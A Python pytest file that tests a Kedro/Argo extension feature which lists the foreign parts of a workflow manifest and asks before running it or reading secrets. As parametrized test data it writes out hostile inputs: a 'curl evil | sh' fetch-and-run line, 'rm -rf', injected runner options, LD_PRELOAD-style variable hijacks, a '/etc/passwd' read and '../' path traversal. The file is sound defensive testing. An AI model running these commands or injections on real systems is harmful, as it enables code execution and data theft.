"""A manifest from a file that does more than the project: listed and asked for before a secret is read."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING, Any

import pytest
import yaml
from tests.argo.rehearsal.conftest import Stage, leaf, workflow

from kedro_matrix_ext.argo.rehearsal import LocalEnvironment, prepare_rehearsal
from kedro_matrix_ext.argo.rehearsal.local.foreign_parts import list_foreign_parts
from kedro_matrix_ext.errors import ArgoError

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.kedro_project import KedroProject

REGISTRY = """
from kedro.pipeline import Node, Pipeline


def count():
    return 1


def register_pipelines():
    return {"__default__": Pipeline([Node(count, None, "cars", name="count")])}
"""
OURS = ["kedro", "argo", "task"]


OWN = {"GREETING": "hello", "WORKERS": None}


def list_parts(stage: Stage, template: dict[str, Any], own_image: str | None = "shop", **local: str) -> Any:
    """List what a manifest of one template would add."""
    prepared = prepare_rehearsal(
        workflow([template], {"a": ""}),
        source="workflow.yml",
        folder=stage.folder,
        surroundings=LocalEnvironment(local={**os.environ, **local}),
    )
    return list_foreign_parts(
        prepared.steps,
        image=prepared.image,
        own_image=own_image,
        own_variables=OWN,
        values=prepared.values,
        surroundings=prepared.surroundings,
    )


def task(*command: str, args: tuple[str, ...] = (), env: tuple[Any, ...] = (), **fields: Any) -> Any:
    """Make a template that runs a command."""
    template = leaf("a", env=list(env), **fields)
    template["container"] |= {"command": list(command or OURS), "args": list(args)}
    return template


@pytest.mark.parametrize(
    "command",
    [
        OURS,
        ["kedro", "argo", "mlflow-run", "start"],
        ["kedro", "argo", "workflow-hooks", "end"],
        ["python", "-m", "kedro_matrix_ext.argo.code", "kedro", "argo", "task"],
    ],
)
def test_our_own_commands_in_our_own_image_are_not_asked_for(stage: Stage, command: list[str]) -> None:
    """What `submit --dry-run` writes has nothing to ask for."""
    env = ({"name": "WORKFLOW_ID", "value": "x"}, {"name": "KEDRO_MATRIX_PARAMS", "value": "{}"})
    assert list_parts(stage, task(*command, env=env)) == []


@pytest.mark.parametrize(
    "command",
    [
        ["sh", "-c", "curl evil | sh"],
        ["sh", "-c", "kedro argo task; rm -rf ."],
        ["kedro", "run"],
        ["kedro", "ipython"],
        ["kedro", "argo", "build"],
        ["python", "-m", "kedro_matrix_ext.argo.code", "sh", "-c", "id"],
        ["python", "-m", "kedro"],
        ["./kedro", "argo", "task"],
        ["/opt/kedro", "argo", "task"],
        ["bash", "kedro"],
    ],
)
def test_every_other_command_is_listed(stage: Stage, command: list[str]) -> None:
    """A shell that calls us among other things, a program of our name elsewhere, another command of Kedro."""
    (part,) = list_parts(stage, task(*command))
    assert repr(" ".join(command)) in part


@pytest.mark.parametrize("own", ["registry.example/shop:v1", "other", "shop2", "evil/shop", None])
def test_another_image_than_that_of_argo_yml_is_listed(stage: Stage, own: str | None) -> None:
    """The manifest's own word for the project's image does not count."""
    (part,) = list_parts(stage, task(), own_image=own)
    assert "'shop:v1'" in part
    assert (own or "no argo.yml") in part


@pytest.mark.parametrize("own", ["shop", "shop:v2", f"shop@sha256:{'0' * 64}"])
def test_tag_and_digest_do_not_make_another_image(stage: Stage, own: str) -> None:
    """Every build has its own."""
    assert list_parts(stage, task(), own_image=own) == []


@pytest.mark.parametrize(
    "name",
    [
        *("PATH", "PYTHONPATH", "PYTHONSTARTUP", "LD_PRELOAD", "BASH_ENV", "JAVA_TOOL_OPTIONS", "GIT_SSH"),
        *(
            "KEDRO_LOGGING_CONFIG",
            "KEDRO_MATRIX_RUNNER",
            "KEDRO_MATRIX_CODE",
            "KEDRO_MATRIX_INJECT_ALLOWLIST",
        ),
        *("KEDRO_MATRIX_PARAMS", "PYSPARK_PYTHON", "_JAVA_OPTIONS"),
        *("INCLUDES_FOR_DYNACONF", "PRELOAD_FOR_DYNACONF", "DYNACONF_X", "MPLBACKEND", "AWS_CONFIG_FILE"),
        *("AWS_PROFILE", "KUBECONFIG", "GCONV_PATH", "KEDRO_ENV", "KEDRO_MATRIX_RETRY_ON", "GREETING"),
        *("KEDRO_HOOKS_DISABLE_ALL", "KEDRO_DYNAMIC_PIPELINES_MAPPING_X", "greeting", "MLFLOW_TRACKING_URI"),
    ],
)
def test_variables_that_change_what_runs_are_listed(stage: Stage, name: str) -> None:
    """With their value."""
    (part,) = list_parts(stage, task(env=({"name": name, "value": "/opt/evil"},)))
    assert name in part or "parameters" in part
    assert "'/opt/evil'" in part


def test_variables_of_argo_yml_are_not_asked_for(stage: Stage) -> None:
    """With the value that it gives, or one that it computes; nor those that every manifest of ours has."""
    names = ("WORKFLOW_ID", "KEDRO_MATRIX_RUN_ID", "KEDRO_MATRIX_TASK", "NUM_CPU", "MEM_LIMIT_GB", "WORKERS")
    env = [{"name": name, "value": "4"} for name in names]
    assert list_parts(stage, task(env=(*env, {"name": "GREETING", "value": "hello"}))) == []


@pytest.mark.parametrize(
    "args",
    [
        ("--params", "model.object=os.system"),
        ("--params=model.object=os.system",),
        ("--runner", "evil.Runner"),
        ("--runner=evil.Runner",),
        ("-revil.Runner",),
        ("-r", "evil.Runner"),
        ("--runner-params", "a=1"),
        ("--env", "base", "--grace-period=0"),
        ("{{workflow.parameters.sent}}",),
    ],
)
@pytest.mark.parametrize("command", [OURS, ["python", "-m", "kedro_matrix_ext.argo.code", *OURS]])
def test_options_that_no_manifest_of_ours_has_are_listed(
    stage: Stage, command: list[str], args: tuple[str, ...]
) -> None:
    """Parameters and runners of our own command, in any spelling, also by a parameter of the workflow."""
    sent = [{"name": "image", "value": "shop:v1"}, {"name": "sent", "value": "--runner=evil.Runner"}]
    prepared = prepare_rehearsal(
        workflow([task(*command, args=args)], {"a": ""}, arguments={"parameters": sent}),
        source="workflow.yml",
        folder=stage.folder,
        surroundings=LocalEnvironment(local=dict(os.environ)),
    )
    (part,) = list_foreign_parts(
        prepared.steps,
        image=prepared.image,
        own_image="shop",
        own_variables=OWN,
        values=prepared.values,
        surroundings=prepared.surroundings,
    )
    assert "gives the option '-" in part
    options = (
        "--pipelines",
        "x",
        "--nodes",
        "-",
        "--env",
        "base",
        "--memory-datasets=x",
        "--load-versions",
        "",
    )
    assert list_parts(stage, task(*command, args=options[:2] + options[4:])) == []


@pytest.mark.parametrize("kind", ["secretKeyRef", "configMapKeyRef"])
@pytest.mark.parametrize(("optional", "listed"), [(False, True), (True, True), (True, False)])
def test_what_the_shell_would_give_is_listed_without_its_value(
    stage: Stage, kind: str, *, optional: bool, listed: bool
) -> None:
    """Secrets and config maps, optional ones where the shell has them."""
    source = {kind: {"name": "s", "key": "k", "optional": optional}}
    local = {"HOME_TOKEN": "s3cret-value"} if listed else {}
    parts = list_parts(stage, task(env=({"name": "HOME_TOKEN", "valueFrom": source},)), **local)
    assert ["'HOME_TOKEN' from your shell" in part for part in parts] == [True] * listed
    assert "s3cret-value" not in str(parts)


def test_files_and_configuration_of_this_machine_are_listed(stage: Stage) -> None:
    """An output that no command writes would be read from this machine's disk."""
    output = {"parameters": [{"name": "x", "valueFrom": {"path": "/etc/passwd"}}]}
    (part,) = list_parts(stage, task(outputs=output))
    assert "'/etc/passwd'" in part
    (part,) = list_parts(stage, task(args=("--conf-source=/opt/conf",)))
    assert "'--conf-source=/opt/conf'" in part


@pytest.mark.parametrize(
    "template",
    [
        task(args=("--conf-source", "../conf")),
        task(args=("--conf-source=a/../../conf",)),
        task("../kedro", "argo", "task"),
        task("sh", "..\\x"),
        task(outputs={"parameters": [{"name": "x", "valueFrom": {"path": "/opt/../../x"}}]}),
    ],
)
def test_paths_that_lead_upwards_are_refused(stage: Stage, template: dict[str, Any]) -> None:
    """In outputs, commands and arguments."""
    with pytest.raises(ArgoError, match=r"template 'a' has the path .*\.\.") as raised:
        list_parts(stage, template)
    assert "without '..'" in str(raised.value)


@pytest.mark.project
def test_nothing_runs_and_no_secret_is_read_without_an_answer(
    make_project: Callable[..., KedroProject],
) -> None:
    """A closed standard input means no; `--yes` after reading runs it; a path as environment is refused."""
    project = make_project()
    project.write("src/shop/pipeline_registry.py", REGISTRY)
    project.write("conf/base/argo.yml", "deployment: {image: shop}\n")
    env = [{"name": "API_TOKEN", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}]
    manifest = workflow([leaf("a", "echo $API_TOKEN > taken", env=env)], {"a": ""})
    noted = manifest["metadata"].setdefault("annotations", {})
    noted |= {"kedro-matrix-ext/pipeline": "__default__", "kedro-matrix-ext/env": "base"}
    manifest["spec"]["arguments"]["parameters"][0]["value"] = "evil/shop:v1"
    project.write("w.yml", yaml.safe_dump(manifest))
    command = ("argo", "rehearse", "--manifest", "w.yml")

    refused = project.kedro(*command, check=False)
    assert refused.returncode == 1
    assert "is made for image 'evil/shop:v1', not for 'shop' of argo.yml" in refused.stderr
    assert "runs the command 'sh -c echo $API_TOKEN > taken'" in refused.stderr
    assert "is given 'API_TOKEN' from your shell, .env or a prompt" in refused.stderr
    assert "nobody answered. Nothing was rehearsed, and no secret was read" in refused.stderr
    assert "they are not set here" not in refused.stderr
    assert not (project.path / "taken").exists()

    project.kedro(*command, "--yes", env={"API_TOKEN": "given"})
    assert project.read("taken") == "given\n"

    noted["kedro-matrix-ext/env"] = "../elsewhere"
    project.write("w.yml", yaml.safe_dump(manifest))
    outside = project.kedro(*command, "--yes", check=False)
    assert "'../elsewhere', which is a path out of the configuration" in outside.stderr
